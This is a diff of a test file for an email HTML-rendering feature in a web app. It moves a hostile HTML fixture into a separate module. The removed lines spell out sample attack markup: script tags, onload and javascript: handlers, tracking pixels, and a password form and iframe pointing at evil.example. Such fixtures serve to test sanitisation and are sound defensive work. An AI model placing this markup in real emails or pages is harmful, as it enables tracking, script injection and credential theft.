@@ -9,12 +9,7 @@ import { appendMessage } from '../support/imap.js';
 import { buildHtmlMessage, TINY_PNG } from '../support/html-mail.js';
 import { sendingWorld, uniqueSubject, type CrmUser, type MailUser } from '../sending/helpers.js';
 import { binaryParser } from '../timesheets/helpers.js';
-
-const HOSTILE_HTML = `<html><head><style>body{background:url(https://tracker.example/bg.png)}</style><script>alert(1)</script></head>
-<body onload="steal()"><p style="color:red;background-image:url('https://tracker.example/p.png')">Dobrý deň, <b>faktúra</b> v prílohe.</p>
-<a href="javascript:alert(2)">klik</a> <a href="https://firma.sk/objednavka" onclick="x()">objednávka</a>
-<img src="cid:logo@firma.sk" alt="logo"> <img src="https://tracker.example/pixel.gif" width="1">
-<form action="https://evil.example/"><input name="heslo"></form><iframe src="https://evil.example/"></iframe></body></html>`;
+import { HOSTILE_HTML } from '../fixtures/email-html.js';
 
 describe('emails: the HTML body, inline images and downloads for a web app (real Cyrus)', function () {
   this.timeout(60_000);
